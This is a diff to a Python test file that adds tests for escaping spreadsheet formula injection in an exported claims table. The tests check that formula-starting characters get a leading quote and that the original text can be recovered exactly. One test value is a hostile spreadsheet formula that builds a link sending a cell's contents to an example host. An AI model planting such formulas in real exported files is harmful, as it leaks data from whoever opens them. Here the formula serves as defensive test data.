@@ -11,10 +11,11 @@ import pytest
 from hypothesis import given, settings
 from hypothesis import strategies as st
 from pyoxigraph import DefaultGraph, Literal, NamedNode, Quad, QuerySolutions, RdfFormat, Store, parse
-from rdflib import Dataset, URIRef
+from rdflib import RDFS, Dataset, URIRef
 from rdflib.compare import isomorphic
 
 from graph.errors import SnapshotDamaged
+from graph.forms.claims_table import guarded, unguarded
 from graph.iris import ID, ONTOLOGY_GRAPH
 from graph.snapshot import Snapshot, Snapshots
 from graph.snapshots import dumping
@@ -109,6 +110,31 @@ def test_the_table_names_who_and_what_is_sensitive(published: Snapshot) -> None:
     assert all(row["attributed_to"] and row["attributed_to_name"] and row["headline"] for row in rows.values())
     reported = next(row for row in rows.values() if row["modality"] == "reported")
     assert len(reported["attributed_to"].split()) == len(reported["attributed_to_name"].split("\n"))
+
+
+FORMULA = '=HYPERLINK("http://example.org/?"&A1)'
+
+
+def test_no_cell_is_a_formula_and_what_was_said_is_had_back(tmp_path: Path) -> None:
+    claim = f"{ID}claim/a/b"
+    label = Quad(NamedNode(claim), NamedNode(str(RDFS.label)), Literal(FORMULA), DefaultGraph())
+    snapshot = Snapshots(tmp_path).publish([quad(claim, TYPE[1:-1], str(POL.Claim)), label], {})
+    (row,) = table(snapshot)
+    assert row["sentence"] == f"'{FORMULA}"
+    assert unguarded(row["sentence"]) == FORMULA
+
+
+@given(st.text(st.sampled_from("'=+-@\t\r\n＝ab "), max_size=6))
+def test_a_guarded_cell_begins_no_formula_and_is_had_back_exactly(text: str) -> None:
+    cell = guarded(text)
+    assert cell[:1] not in tuple("=+-@\t\r\n＝＋－＠")
+    assert unguarded(cell) == text
+    assert cell == text or cell == f"'{text}"
+
+
+@pytest.mark.parametrize("text", ["Nur Otan", "'quoted'", "it's", "", "a=b", "‘=x"])
+def test_what_is_no_danger_stays_as_it_is(text: str) -> None:
+    assert guarded(text) == text == unguarded(text)
 
 
 def test_a_claim_of_which_little_is_said_has_a_row_too(tmp_path: Path) -> None:
